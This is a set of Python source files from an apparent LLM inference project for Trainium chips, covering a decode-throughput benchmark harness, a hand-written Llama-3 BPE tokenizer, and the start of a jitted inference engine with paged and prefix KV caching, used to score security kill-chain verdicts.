                    "and checkpoint cadence before shipping")
        except Exception as e:
            log(f"[bench] wal A/B failed: {type(e).__name__}: {e}")
            import traceback
            traceback.print_exc(file=sys.stderr)
    if args.elastic and remaining() > 120:
        try:
            rows = bench_elastic(engine.params, engine.mcfg)
            detail.update(rows)
            log(f"[bench] elastic: migrated "
                f"{rows['elastic_migrated_chains']} chains "
                f"({rows['elastic_migrated_chunks']} chunks), prefill "
                f"tokens saved={rows['elastic_prefill_tokens_saved']} "
                f"(hit tokens {rows['elastic_hit_tokens_migrate']} "
                f"migrate vs {rows['elastic_hit_tokens_cold']} cold), "
                f"p99 TTFV during event "
                f"{rows['elastic_p99_ttfv_migrate_s'] * 1000:.1f} ms "
                f"migrate vs "
                f"{rows['elastic_p99_ttfv_cold_s'] * 1000:.1f} ms cold, "
                f"lost chains={rows['elastic_chains_lost']}")
        except Exception as e:
            log(f"[bench] elastic bench failed: {type(e).__name__}: {e}")
            import traceback
            traceback.print_exc(file=sys.stderr)
    if args.trace and remaining() > 60:
        try:
            detail.update(bench_trace_overhead(engine, max(32, args.steps // 2)))
            log("[bench] trace overhead done")
        except Exception as e:
            log(f"[bench] trace overhead bench failed: {type(e).__name__}: {e}")
            import traceback
            traceback.print_exc(file=sys.stderr)
    if args.profile and remaining() > 60:
        try:
            detail.update(
                bench_profile_overhead(engine, max(32, args.steps // 2)))
            log("[bench] profiler overhead done")
        except Exception as e:
            log(f"[bench] profiler overhead bench failed: "
                f"{type(e).__name__}: {e}")
            import traceback
            traceback.print_exc(file=sys.stderr)
    if args.longctx and remaining() > 240 and result["platform"] == "neuron" \
            and result["config"] == "llama3-8b":
        try:
            detail.update(bench_long_context(engine.params, cfg, engine.mesh))
        except Exception as e:
            log(f"[bench] longctx failed: {type(e).__name__}: {e}")
            import traceback
            traceback.print_exc(file=sys.stderr)
    if args.compare or args.pipeline or args.longctx or args.prefixcache \
            or args.trace or args.spec or args.quant or args.fleet \
            or args.cascade or args.overload or args.elastic or args.wal \
            or args.profile or args.semcache:
        try:
            os.makedirs(os.path.dirname(args.detail_out) or ".", exist_ok=True)
            with open(args.detail_out, "w") as f:
                json.dump({"metric": metric, "value": out["value"],
                           "detail": detail}, f, indent=1)
            log(f"[bench] detail rows -> {args.detail_out}")
        except OSError as e:
            log(f"[bench] detail write failed: {e}")
    rc = 0
    if args.strict_perf and detail.get("wal_within_5pct") is False:
        # absolute gate, not just trend: durability that costs >= 5%
        # throughput cannot default on, so a run that measures it fails
        log(f"[bench] FAIL --strict-perf: wal_overhead_frac "
            f"{detail.get('wal_overhead_frac', 0.0):.1%} >= 5%")
        rc = 2
    if args.strict_perf and detail.get(
            "semcache_false_benign_shortcircuits", 0):
        # absolute safety gate: a cache that short-circuits even ONE
        # malicious chain to a memoized benign verdict is worse than no
        # cache — uplift numbers cannot buy this back
        log(f"[bench] FAIL --strict-perf: "
            f"{detail['semcache_false_benign_shortcircuits']} "
            f"false-benign semcache short-circuit(s) on the labeled "
            f"corpus")
        rc = 2
    if args.strict_perf and detail.get("profile_within_5pct") is False:
        # same absolute bar for the step profiler: a default-on sampler
        # that taxes the hot path >= 5% is a sampler nobody ships
        log(f"[bench] FAIL --strict-perf: profile_overhead_frac "
            f"{detail.get('profile_overhead_frac', 0.0):.1%} >= 5%")
        rc = 2
    if args.ledger:
        # perf-history ledger (runs even on headline-only invocations):
        # append this run keyed by its methodology fields and gate on
        # the trend — the detail-file WARN above only sees one run back
        try:
            sys.path.insert(0, os.path.join(
                os.path.dirname(os.path.abspath(__file__)), "scripts"))
            import perf_ledger
            regressions = perf_ledger.record_run(
                args.ledger, metric, out["value"], detail)
            log(f"[bench] perf ledger: appended {metric} -> {args.ledger}")
            for r in regressions:
                log(f"[bench] perf ledger REGRESSION {r}")
            if regressions and args.strict_perf:
                log(f"[bench] FAIL --strict-perf: {len(regressions)} "
                    f"headline field(s) regressed >10% vs the previous "
                    f"same-methodology run")
                rc = 2
        except Exception as e:
            log(f"[bench] perf ledger failed: {type(e).__name__}: {e}")
    return rc


if __name__ == "__main__":
    sys.exit(main())
