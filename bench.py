"""Benchmark harness — prints ONE JSON line with the headline metric.

Metric: tokens/sec/chip of batched paged decode (the serving hot loop).
One Trainium2 chip = 8 NeuronCores; on trn the 8B tier runs tensor-
parallel across all 8 cores of the chip (tp=8), so aggregate decode
throughput IS the per-chip number.  On CPU (no trn) it falls back to the
tiny config so the harness always produces a line.

vs_baseline: the reference served Llama-3-8B through Ollama on an
unspecified "Windows GPU node" (reference README.md:21) with NO
published numbers (BASELINE.md).  We anchor against 40 tok/s — a
generous estimate for an Ollama fp16 8B on a consumer GPU — so
vs_baseline = measured / 40.0 for the 8B tier (scaled estimates for the
smaller tiers are reported as their own metric names, not compared).

Secondary numbers (stderr): prefill latency, p50 verdict latency via the
in-process scheduler, events/sec through the sensor monitor.
"""
from __future__ import annotations

import argparse
import json
import sys
import time

import numpy as np

REFERENCE_8B_TOKS = 40.0  # documented assumption, see module docstring


def log(*a):
    print(*a, file=sys.stderr, flush=True)


def bench_decode(config_name: str, steps: int, batch: int):
    import jax
    import jax.numpy as jnp

    from chronos_trn.config import CacheConfig, EngineConfig, ModelConfig
    from chronos_trn.core import kvcache, model
    from chronos_trn.parallel import mesh as mesh_lib
    from chronos_trn.parallel import sharding

    n_dev = len(jax.devices())
    platform = jax.devices()[0].platform
    log(f"[bench] platform={platform} devices={n_dev} config={config_name}")

    if config_name == "8b":
        cfg = ModelConfig.llama3_8b()
        tp = n_dev  # whole chip
        # context capacity 512/slot: the decode gather is proportional to
        # B * max_context, and kill-chain verdict prompts fit well inside
        # 512; the 70B analyst tier owns the long-context story.  The
        # pool covers every slot's full table so any --steps value fits.
        ccfg = CacheConfig(
            page_size=16,
            num_pages=max(1024, batch * 32),
            max_pages_per_seq=32,
        )
    elif config_name == "1b":
        cfg = ModelConfig.llama3_1b()
        tp = min(4, n_dev)
        ccfg = CacheConfig(page_size=16, num_pages=512, max_pages_per_seq=64)
    else:
        cfg = ModelConfig.tiny()
        tp = 1
        ccfg = CacheConfig(page_size=8, num_pages=256, max_pages_per_seq=32)

    mesh = mesh_lib.make_mesh(dp=1, sp=1, tp=tp)
    pspecs = sharding.param_specs(cfg)
    pshard = sharding.to_shardings(pspecs, mesh)
    cshard = sharding.to_shardings(sharding.cache_specs(), mesh)

    log(f"[bench] init {cfg.name} params sharded tp={tp} …")
    t0 = time.time()

    def fast_init():
        """Cheap deterministic weights — decode speed does not depend on
        weight values, and threefry-generating 16 GB wastes bench time."""
        import jax.numpy as jnp

        def mk(path_shape_dtype):
            shape, dtype = path_shape_dtype
            n = shape[-1]
            row = (jnp.arange(n, dtype=jnp.float32) % 13.0 - 6.0) * 0.02
            return jnp.broadcast_to(row, shape).astype(dtype)

        template = jax.eval_shape(
            lambda: model.init_params(cfg, jax.random.PRNGKey(0))
        )
        return jax.tree.map(lambda t: mk((t.shape, t.dtype)), template)

    params = jax.jit(fast_init, out_shardings=pshard)()
    jax.block_until_ready(params)
    log(f"[bench] params ready in {time.time() - t0:.1f}s")

    cache_fn = jax.jit(
        lambda: kvcache.init_cache(cfg, ccfg), out_shardings=cshard
    )
    cache = cache_fn()
    jax.block_until_ready(cache)

    # build a live batch: each slot prefilled with a short prompt
    alloc = kvcache.PageAllocator(ccfg)
    prompt_len = 32
    prompt = jnp.asarray(np.arange(prompt_len) % 128, jnp.int32)
    block_tables = np.zeros((batch, ccfg.max_pages_per_seq), np.int32)
    # params passed as an argument (a closure capture would bake 16 GB
    # of constants into the HLO at the 8B tier)
    prefill_fn = jax.jit(
        lambda params, cache, toks, length, bt: model.prefill(
            params, cfg, ccfg, cache, toks, length, bt
        ),
        donate_argnums=(1,),
    )
    t0 = time.time()
    for b in range(batch):
        st = alloc.allocate(b, prompt_len)
        block_tables[b] = st.block_table
        logits, cache = prefill_fn(
            params, cache, prompt, jnp.int32(prompt_len), jnp.asarray(st.block_table)
        )
    jax.block_until_ready(logits)
    prefill_s = (time.time() - t0) / batch
    log(f"[bench] prefill {prompt_len} toks: {prefill_s * 1000:.1f} ms/seq "
        f"(includes compile on first)")

    decode_fn = jax.jit(
        lambda params, cache, toks, pos, bt, act: model.decode_step(
            params, cfg, ccfg, cache, toks, pos, bt, act
        ),
        donate_argnums=(1,),
    )

    tokens = np.zeros(batch, np.int32)
    active = jnp.ones(batch, bool)
    pos0 = prompt_len

    def run(n, pos_start):
        nonlocal cache
        pos = pos_start
        logits = None
        for i in range(n):
            for b in range(batch):
                alloc.extend(b, pos + 1)
                block_tables[b] = alloc.get(b).block_table
            logits, cache = decode_fn(
                params,
                cache,
                jnp.asarray(tokens),
                jnp.full(batch, pos, jnp.int32),
                jnp.asarray(block_tables),
                active,
            )
            pos += 1
        jax.block_until_ready(logits)
        return pos

    log("[bench] warmup decode (compile) …")
    t0 = time.time()
    pos = run(2, pos0)
    log(f"[bench] warmup done in {time.time() - t0:.1f}s")

    log(f"[bench] timing {steps} decode steps x batch {batch} …")
    t0 = time.time()
    pos = run(steps, pos)
    elapsed = time.time() - t0
    toks_per_s = steps * batch / elapsed
    log(f"[bench] {toks_per_s:.2f} tok/s aggregate "
        f"({elapsed / steps * 1000:.1f} ms/step, batch {batch})")
    return {
        "config": cfg.name,
        "platform": platform,
        "n_devices": n_dev,
        "tp": tp,
        "batch": batch,
        "decode_tokens_per_s": toks_per_s,
        "prefill_s_per_seq": prefill_s,
    }


def bench_verdict_pipeline():
    """p50 verdict latency + events/sec through monitor + scheduler with
    the heuristic analyst (wire-level, in-process server)."""
    from chronos_trn.config import SensorConfig, ServerConfig
    from chronos_trn.sensor import simulator
    from chronos_trn.sensor.client import KillChainMonitor
    from chronos_trn.serving.backends import HeuristicBackend
    from chronos_trn.serving.server import ChronosServer

    server = ChronosServer(HeuristicBackend(), ServerConfig(host="127.0.0.1", port=0))
    server.start()
    try:
        cfg = SensorConfig(
            server_url=f"http://127.0.0.1:{server.port}/api/generate"
        )
        mon = KillChainMonitor(cfg, alert_fn=lambda s: None)
        events = list(simulator.interleaved_streams(64, attack_every=8))
        lat = []
        t0 = time.time()
        for ev in events:
            t1 = time.time()
            n_before = len(mon.verdicts)
            mon.on_event(ev)
            if len(mon.verdicts) > n_before:
                lat.append(time.time() - t1)
        wall = time.time() - t0
        return {
            "events_per_s": len(events) / wall,
            "p50_verdict_s": float(np.percentile(lat, 50)) if lat else None,
            "chains_analyzed": len(mon.verdicts),
        }
    finally:
        server.stop()


def main():
    # The one-JSON-line stdout contract: neuronx-cc subprocesses print
    # compile status to fd 1, so park fd 1 on stderr for the whole run
    # and restore it only for the final JSON line.
    import os
    real_stdout = os.dup(1)
    os.dup2(2, 1)

    def emit(obj) -> None:
        # drain anything libraries print()'ed while fd 1 was parked, so
        # it can't flush onto the real stdout ahead of the JSON line
        sys.stdout.flush()
        os.dup2(real_stdout, 1)
        print(json.dumps(obj), flush=True)

    ap = argparse.ArgumentParser()
    ap.add_argument("--config", default="auto", choices=["auto", "8b", "1b", "tiny"])
    ap.add_argument("--steps", type=int, default=32)
    ap.add_argument("--batch", type=int, default=32)
    ap.add_argument("--platform", default=None,
                    help="force jax platform (cpu for local smoke runs; the "
                         "axon plugin overrides JAX_PLATFORMS env)")
    args = ap.parse_args()

    import jax
    if args.platform:
        jax.config.update("jax_platforms", args.platform)
    platform = jax.devices()[0].platform

    if args.config == "auto":
        ladder = ["8b", "1b", "tiny"] if platform == "neuron" else ["tiny"]
    else:
        ladder = [args.config]

    result = None
    for config_name in ladder:
        try:
            result = bench_decode(config_name, args.steps, args.batch)
            break
        except Exception as e:
            log(f"[bench] {config_name} failed: {type(e).__name__}: {e}")
    if result is None:
        emit({"metric": "decode_tokens_per_s", "value": 0.0,
              "unit": "tok/s/chip", "vs_baseline": 0.0,
              "error": "all configs failed"})
        return 1

    try:
        pipeline = bench_verdict_pipeline()
        log(f"[bench] pipeline: {pipeline}")
    except Exception as e:
        log(f"[bench] pipeline bench failed: {e}")
        pipeline = {}

    aggregate = result["decode_tokens_per_s"]
    # one Trainium2 chip = 8 NeuronCores; normalize so multi-chip hosts
    # don't inflate the per-chip headline
    n_chips = max(1, result["n_devices"] // 8) if result["platform"] == "neuron" else 1
    value = aggregate / n_chips
    if result["config"] == "llama3-8b":
        metric = "decode_tokens_per_s_per_chip_8b"
        vs = round(value / REFERENCE_8B_TOKS, 3)
    else:
        # smaller tiers are not comparable to the 8B Ollama anchor
        metric = f"decode_tokens_per_s_{result['config']}"
        vs = None
    out = {
        "metric": metric,
        "value": round(value, 2),
        "unit": "tok/s/chip",
        "vs_baseline": vs,
        "detail": {**result, "aggregate_tokens_per_s": aggregate,
                   "n_chips": n_chips, **pipeline},
    }
    emit(out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
