"""Llama-3 tokenizer: tiktoken-style byte-level BPE, pure Python.

The reference delegates tokenization to Ollama (reference README.md:21);
serving Llama-3 natively needs the real tokenizer.  This loads the stock
``tokenizer.model`` tiktoken file (lines of ``<base64 token> <rank>``)
shipped with Llama-3 checkpoints, plus the special-token table.  Neither
``tiktoken`` nor the ``regex`` module is available in the image, so the
pre-tokenization split is a hand-written scanner (:func:`_split_text`)
implementing the Llama-3 tiktoken pattern exactly — true Unicode
``\\p{L}``/``\\p{N}``/White_Space classes and leftmost-first alternation
semantics (tiktoken uses a backtracking engine for the ``(?!\\S)``
lookahead).  A stdlib-``re`` approximation previously used here dropped
underscores entirely (``_`` is ``\\w`` but not ``\\p{L}``), corrupting
file paths and snake_case in prompts; the scanner routes ``_`` through
the punctuation branch as tiktoken does.

A deterministic :class:`ByteTokenizer` (vocab = 256 bytes + specials)
serves tests/bench when no tokenizer file is present.
"""
from __future__ import annotations

import base64
import functools
import json
import os
import re
import unicodedata
from typing import Dict, List, Optional, Sequence

# Llama-3 special tokens (stock ids)
LLAMA3_SPECIALS = {
    "<|begin_of_text|>": 128000,
    "<|end_of_text|>": 128001,
    "<|reserved_special_token_0|>": 128002,
    "<|reserved_special_token_1|>": 128003,
    "<|finetune_right_pad_id|>": 128004,
    "<|reserved_special_token_2|>": 128005,
    "<|start_header_id|>": 128006,
    "<|end_header_id|>": 128007,
    "<|eom_id|>": 128008,
    "<|eot_id|>": 128009,
    "<|python_tag|>": 128010,
}

# --------------------------------------------------------------------------
# Pre-tokenization: hand-written scanner for the Llama-3 tiktoken pattern
#   (?i:'s|'t|'re|'ve|'m|'ll|'d)
#   |[^\r\n\p{L}\p{N}]?\p{L}+
#   |\p{N}{1,3}
#   | ?[^\s\p{L}\p{N}]+[\r\n]*
#   |\s*[\r\n]+
#   |\s+(?!\S)
#   |\s+
# with backtracking-engine (leftmost-first, greedy) semantics.
# --------------------------------------------------------------------------

# Unicode White_Space (what Rust-regex \s matches; NOT python isspace(),
# which wrongly includes \x1c-\x1f file separators)
_WHITESPACE = frozenset(
    [chr(c) for c in range(0x09, 0x0E)]          # \t \n \v \f \r
    + [chr(c) for c in (0x20, 0x85, 0xA0, 0x1680)]
    + [chr(c) for c in range(0x2000, 0x200B)]    # en/em spaces etc.
    + [chr(c) for c in (0x2028, 0x2029, 0x202F, 0x205F, 0x3000)]
)

_CONTRACTIONS = ("'s", "'t", "'re", "'ve", "'m", "'ll", "'d")


@functools.lru_cache(maxsize=4096)
def _char_class_slow(ch: str) -> int:
    if ch in _WHITESPACE:
        return 2
    cat = unicodedata.category(ch)
    if cat[0] == "L":
        return 0
    if cat[0] == "N":
        return 1
    return 3


# EDR prompts are overwhelmingly ASCII and encode() runs on the serving
# admission path — plain list indexing for ord < 128, unicodedata beyond
_ASCII_CLASS = [_char_class_slow(chr(c)) for c in range(128)]


def _char_class(ch: str) -> int:
    """0=letter, 1=number, 2=whitespace, 3=other (incl. '_')."""
    o = ord(ch)
    return _ASCII_CLASS[o] if o < 128 else _char_class_slow(ch)


def _split_text(text: str) -> List[str]:
    """Split text into pre-tokenization pieces, exactly as tiktoken's
    Llama-3 pattern would (every byte of input appears in the output)."""
    out: List[str] = []
    i, n = 0, len(text)
    while i < n:
        ch = text[i]
        # branch 1: contractions, case-insensitive, leftmost-first
        if ch == "'" and i + 1 < n:
            rest = text[i + 1 : i + 3].lower()
            for c in _CONTRACTIONS:
                body = c[1:]
                if rest.startswith(body):
                    out.append(text[i : i + 1 + len(body)])
                    i += 1 + len(body)
                    break
            else:
                body = None
            if body is not None:
                continue
        cls = _char_class(ch)
        # branch 2: [^\r\n\p{L}\p{N}]?\p{L}+
        if cls == 0 or (
            ch not in "\r\n"
            and cls in (2, 3)
            and i + 1 < n
            and _char_class(text[i + 1]) == 0
        ):
            j = i + 1 if cls != 0 else i
            while j < n and _char_class(text[j]) == 0:
                j += 1
            out.append(text[i:j])
            i = j
            continue
        # branch 3: \p{N}{1,3}
        if cls == 1:
            j = i
            while j < n and j - i < 3 and _char_class(text[j]) == 1:
                j += 1
            out.append(text[i:j])
            i = j
            continue
        # branch 4: ' ?[^\s\p{L}\p{N}]+[\r\n]*'
        if cls == 3 or (
            ch == " " and i + 1 < n and _char_class(text[i + 1]) == 3
        ):
            j = i + 1 if cls != 3 else i
            while j < n and _char_class(text[j]) == 3:
                j += 1
            while j < n and text[j] in "\r\n":
                j += 1
            out.append(text[i:j])
            i = j
            continue
        # whitespace branches: take the maximal whitespace run [i, j)
        j = i
        while j < n and _char_class(text[j]) == 2:
            j += 1
        # branch 5: \s*[\r\n]+ — ends at the end of the LAST \r\n block
        # inside the run (greedy \s* backtracks until [\r\n]+ succeeds)
        last_nl = -1
        for k in range(j - 1, i - 1, -1):
            if text[k] in "\r\n":
                last_nl = k
                break
        if last_nl >= 0:
            out.append(text[i : last_nl + 1])
            i = last_nl + 1
            continue
        # branch 6: \s+(?!\S) — all but the last ws char (which glues to
        # the following word), unless the run ends the string
        if j == n:
            out.append(text[i:j])
            i = j
            continue
        if j - i > 1:
            out.append(text[i : j - 1])
            i = j - 1
            continue
        # branch 7: \s+ — single whitespace char before non-space
        out.append(text[i:j])
        i = j
    return out


class BPETokenizer:
    """Byte-level BPE with rank-ordered merges (tiktoken semantics)."""

    def __init__(
        self,
        mergeable_ranks: Dict[bytes, int],
        special_tokens: Dict[str, int],
        bos_token: str = "<|begin_of_text|>",
        eos_token: str = "<|end_of_text|>",
        stop_tokens: Sequence[str] = ("<|end_of_text|>", "<|eot_id|>"),
    ):
        self.ranks = mergeable_ranks
        self.specials = dict(special_tokens)
        self.bos_id = self.specials.get(bos_token)
        self.eos_id = self.specials.get(eos_token)
        self.stop_ids = {
            self.specials[t] for t in stop_tokens if t in self.specials
        }
        self._decoder: Dict[int, bytes] = {r: tok for tok, r in mergeable_ranks.items()}
        for text, tid in self.specials.items():
            self._decoder[tid] = text.encode()
        self._special_re = (
            re.compile("|".join(re.escape(s) for s in sorted(self.specials, key=len, reverse=True)))
            if self.specials
            else None
        )
        self.vocab_size = max(self._decoder) + 1

    # ---- construction -------------------------------------------------
    @staticmethod
    def from_tiktoken_file(path: str, special_tokens: Optional[Dict[str, int]] = None):
        """Load stock Llama-3 ``tokenizer.model`` (base64 rank lines)."""
        ranks: Dict[bytes, int] = {}
        with open(path, "rb") as f:
            for line in f:
                line = line.strip()
                if not line:
                    continue
                tok_b64, rank = line.split()
                ranks[base64.b64decode(tok_b64)] = int(rank)
        if special_tokens is None:
            n = len(ranks)
            special_tokens = {
                name: n + (tid - 128000) for name, tid in LLAMA3_SPECIALS.items()
            } if n != 128000 else dict(LLAMA3_SPECIALS)
        return BPETokenizer(ranks, special_tokens)

    @staticmethod
    def from_hf_tokenizer_json(path: str):
        """Load a HF ``tokenizer.json`` (BPE model section) — covers stock
        HF-format Llama-3 repos that ship no tokenizer.model."""
        with open(path, encoding="utf-8") as f:
            tj = json.load(f)
        vocab = tj["model"]["vocab"]  # token-str -> id, byte-level encoded
        b2u = _bytes_to_unicode()
        u2b = {u: b for b, u in b2u.items()}
        ranks: Dict[bytes, int] = {}
        for tok_str, tid in vocab.items():
            try:
                ranks[bytes(u2b[ch] for ch in tok_str)] = tid
            except KeyError:
                continue  # non-byte-level entry (added token) — handled below
        specials = {
            at["content"]: at["id"]
            for at in tj.get("added_tokens", [])
            if at.get("special", False)
        }
        return BPETokenizer(ranks, specials)

    # ---- encode / decode ----------------------------------------------
    def _bpe_merge(self, piece: bytes) -> List[int]:
        if piece in self.ranks:
            return [self.ranks[piece]]
        parts = [piece[i : i + 1] for i in range(len(piece))]
        while len(parts) > 1:
            best_rank, best_i = None, None
            for i in range(len(parts) - 1):
                r = self.ranks.get(parts[i] + parts[i + 1])
                if r is not None and (best_rank is None or r < best_rank):
                    best_rank, best_i = r, i
            if best_i is None:
                break
            parts[best_i : best_i + 2] = [parts[best_i] + parts[best_i + 1]]
        out = []
        for p in parts:
            r = self.ranks.get(p)
            if r is None:
                # unmergeable byte outside vocab: emit per-byte ids
                out.extend(self.ranks.get(p[i : i + 1], 0) for i in range(len(p)))
            else:
                out.append(r)
        return out

    def encode(self, text: str, bos: bool = False, allow_special: bool = True) -> List[int]:
        ids: List[int] = []
        if bos and self.bos_id is not None:
            ids.append(self.bos_id)
        segments = [text]
        if allow_special and self._special_re is not None:
            segments = []
            last = 0
            for m in self._special_re.finditer(text):
                if m.start() > last:
                    segments.append(text[last : m.start()])
                segments.append(m.group())
                last = m.end()
            if last < len(text):
                segments.append(text[last:])
        for seg in segments:
            if seg in self.specials:
                ids.append(self.specials[seg])
                continue
            for piece in _split_text(seg):
                ids.extend(self._bpe_merge(piece.encode("utf-8")))
        return ids

    def decode(self, ids: Sequence[int]) -> str:
        buf = b"".join(self._decoder.get(int(t), b"") for t in ids)
        return buf.decode("utf-8", errors="replace")

    def decode_token_bytes(self, tid: int) -> bytes:
        """Raw bytes of one token — the JSON grammar automaton consumes
        these to vet candidate continuations."""
        return self._decoder.get(int(tid), b"")


def _bytes_to_unicode() -> Dict[int, str]:
    """GPT-2 byte<->unicode table used by HF byte-level BPE vocabs."""
    bs = (
        list(range(ord("!"), ord("~") + 1))
        + list(range(0xA1, 0xAD))
        + list(range(0xAE, 0x100))
    )
    cs = bs[:]
    n = 0
    for b in range(256):
        if b not in bs:
            bs.append(b)
            cs.append(256 + n)
            n += 1
    return dict(zip(bs, map(chr, cs)))


class ByteTokenizer:
    """Deterministic byte-level tokenizer: ids 0..255 are raw bytes;
    specials follow.  Drop-in for tests/bench without tokenizer assets."""

    def __init__(self, vocab_size: int = 512):
        assert vocab_size >= 260
        self.specials = {
            "<|begin_of_text|>": 256,
            "<|end_of_text|>": 257,
            "<|pad|>": 258,
            "<|eot_id|>": 259,
        }
        self.bos_id = 256
        self.eos_id = 257
        self.pad_id = 258
        self.stop_ids = {257, 259}
        self.vocab_size = vocab_size
        self.ranks = {bytes([i]): i for i in range(256)}

    def encode(self, text: str, bos: bool = False, allow_special: bool = True):
        ids = [self.bos_id] if bos else []
        ids.extend(text.encode("utf-8", errors="replace"))
        return ids

    def decode(self, ids) -> str:
        return bytes(t for t in ids if 0 <= int(t) < 256).decode(
            "utf-8", errors="replace"
        )

    def decode_token_bytes(self, tid: int) -> bytes:
        tid = int(tid)
        return bytes([tid]) if tid < 256 else b""


def load_tokenizer(model_dir: Optional[str], vocab_size: int = 512):
    """Best tokenizer available: tiktoken file > HF tokenizer.json > bytes."""
    if model_dir:
        tk = os.path.join(model_dir, "tokenizer.model")
        if os.path.exists(tk):
            return BPETokenizer.from_tiktoken_file(tk)
        tj = os.path.join(model_dir, "tokenizer.json")
        if os.path.exists(tj):
            return BPETokenizer.from_hf_tokenizer_json(tj)
    return ByteTokenizer(vocab_size=vocab_size)
