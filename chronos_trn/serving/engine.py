"""Inference engine: jitted prefill/decode with shape bucketing.

neuronx-cc is an AOT compiler — every distinct shape is a new NEFF
(SURVEY.md §7 hard part 3).  The engine therefore exposes exactly
``len(prefill_buckets) + 1`` compiled graphs: one prefill per bucket
(long prompts run as chunked prefill in largest-bucket pieces) and one
decode step at fixed batch width B.  Block tables / positions / active
masks are the only dynamic content, all dense int32/bool of fixed shape.

Caches are donated so decode updates alias in place on device.
"""
from __future__ import annotations

import functools
import threading
import time
from typing import Dict, Optional

import jax
import jax.numpy as jnp
import numpy as np

from chronos_trn.analysis.sanitize import maybe_wrap_allocator
from chronos_trn.config import CacheConfig, EngineConfig, ModelConfig
from chronos_trn.core import kvcache, model, sampling
from chronos_trn.core.prefix_cache import PrefixCache
from chronos_trn.obs.perf import COMPILES, PROFILER
from chronos_trn.utils.metrics import GLOBAL as METRICS
from chronos_trn.utils.structlog import get_logger, log_event

LOG = get_logger("engine")


class EnginePoisoned(RuntimeError):
    """A device dispatch failed after the donated KV pool may already
    have been consumed (``donate_argnums=(1,)``): cache contents and
    host bookkeeping can no longer be trusted.  The only safe recovery
    is a rebuild (fresh cache + allocator) with survivors replayed —
    crash-only software design (Candea & Fox, HotOS'03)."""


class EngineSuperseded(RuntimeError):
    """A dispatch completed against a cache generation that a rebuild
    has since replaced.  The result must be discarded — committing it
    would clobber the fresh pool with state derived from the dead one.
    Raised instead of returning so a stale (abandoned) worker thread
    unwinds without touching engine or scheduler state."""


class InferenceEngine:
    """Single-replica engine. The scheduler is its only caller; all
    methods are called from one worker thread."""

    def __init__(
        self,
        params,
        model_cfg: ModelConfig,
        cache_cfg: CacheConfig,
        engine_cfg: EngineConfig,
        cache_dtype=None,
        mesh=None,
    ):
        """mesh: a parallel.mesh dp×sp×tp Mesh — params must already be
        sharded to it (parallel.sharding.shard_params); the KV cache is
        sharded here (kv heads over tp) and jit keeps every step on the
        mesh (collectives over NeuronLink)."""
        self.params = params
        self.mcfg = model_cfg
        self.ccfg = cache_cfg
        self.ecfg = engine_cfg
        self.mesh = mesh
        self._cache_dtype = cache_dtype
        self.cache = kvcache.init_cache(model_cfg, cache_cfg, dtype=cache_dtype)
        if mesh is not None:
            from chronos_trn.parallel import sharding as sharding_lib

            self.cache = sharding_lib.shard_cache(self.cache, mesh)
        self.B = engine_cfg.max_batch_slots
        if cache_cfg.slot_contiguous:
            self.alloc = kvcache.SlotContiguousAllocator(cache_cfg, self.B)
        else:
            self.alloc = kvcache.PageAllocator(cache_cfg)
        # CHRONOS_SANITIZE=1: shadow-ownership sanitizer validating the
        # free/seq/cache invariant after every allocator mutation
        # (no-op wrapper-free passthrough when the env knob is off)
        self.alloc = maybe_wrap_allocator(self.alloc)
        self.slots: list = [None] * self.B  # seq_id or None
        self._seq_pos: Dict[int, int] = {}
        # prompt/cache-hit token split of the most recent prefill_seq
        # (read by the scheduler right after the call; worker-thread only)
        self.last_prefill_info: Optional[Dict[str, int]] = None
        # semcache seam: when collect_pooled is on, prefill_seq also
        # mean-pools the final-norm hidden states of full (non-prefix-
        # cached) prompts and leaves the [D] f32 embedding here — same
        # read-right-after contract as last_prefill_info.  None when the
        # last prefill rode a prefix-cache hit (the truncated forward
        # never saw the cached tokens' activations, and a partial pool
        # would drift from the insert-time embedding of the same chain).
        self.collect_pooled: bool = False
        self.last_pooled: Optional[np.ndarray] = None
        self.fused_enabled = cache_cfg.slot_contiguous and engine_cfg.fused_decode
        # cross-request prefix KV cache (core.prefix_cache): verdict
        # prompts share the analyst preamble + growing per-PID chains,
        # so matched page-aligned prefixes skip recompute entirely.
        # Paged layout: the cache owns pool pages and the allocator
        # consults it under pressure (reclaimer hook); slot-major: the
        # cache holds off-pool K/V copies that are scattered into the
        # slot on a hit.
        self.prefix_cache: Optional[PrefixCache] = None
        if engine_cfg.prefix_cache:
            self.prefix_cache = PrefixCache(
                page_size=cache_cfg.page_size,
                capacity_pages=engine_cfg.prefix_cache_pages,
                slot_major=cache_cfg.slot_contiguous,
            )
            if not cache_cfg.slot_contiguous:
                self.alloc.reclaimer = self.prefix_cache

        self._prefill_jit: Dict[tuple, object] = {}

        # params are an ARGUMENT, never a closure capture: a captured
        # pytree is baked into the HLO as constants — 16 GB of literals
        # at the 8B tier — exploding compile time and memory.
        # only [B, K] top-k values+ids cross the device boundary per step
        # instead of [B, vocab] fp32 (~16 MB/step at batch 32 on the 8B
        # tier) — host-side sampling and the JSON constrainer only ever
        # look at the top K candidates anyway.
        K = self.ecfg.logits_top_k

        @functools.partial(jax.jit, donate_argnums=(1,))
        def _decode_topk(params, cache, tokens, positions, block_tables, active):
            logits, cache = model.decode_step(
                params, self.mcfg, self.ccfg, cache,
                tokens, positions, block_tables, active,
                slot_view=cache_cfg.slot_contiguous,
            )
            vals, idx = sampling.topk_grouped(logits, K)
            return vals, idx.astype(jnp.int32), cache

        self._decode_topk = _decode_topk

        # speculative verify v2 (chronos_trn.spec): score every active
        # slot's draft TREE in one fused READ-ONLY forward.  Width is
        # bucketed — (2, 3, 5, ..., spec_draft_len_max + 1), each ~2x
        # the last — so jit caches one graph per bucket and a round of
        # short drafts pays for its own width instead of the full padded
        # W (v1's single width was a real slice of the spec-on
        # wall-clock loss).  The cache is NOT donated: verify writes
        # nothing — sibling tree nodes share a sequence position, so the
        # accepted path's K/V lands later via _spec_commit_fn (donated).
        self._spec_W = engine_cfg.spec_draft_len_max + 1
        buckets = [min(2, self._spec_W)]
        while buckets[-1] < self._spec_W:
            buckets.append(min(self._spec_W, 2 * buckets[-1] - 1))
        self._spec_buckets = tuple(buckets)
        # in-flight verify awaiting spec_commit: holds the window K/V
        # device buffers + per-slot meta.  Cleared by commit and rebuild.
        self._spec_pending: Optional[dict] = None

        @jax.jit
        def _verify_topk(
            params, cache, tokens, positions, block_tables, tree_mask,
            depths,
        ):
            logits, k_win, v_win = model.verify_window(
                params, self.mcfg, self.ccfg, cache,
                tokens, positions, block_tables, tree_mask, depths,
                slot_view=cache_cfg.slot_contiguous,
            )
            vals, idx = sampling.topk_window(logits, K)
            return vals, idx.astype(jnp.int32), k_win, v_win

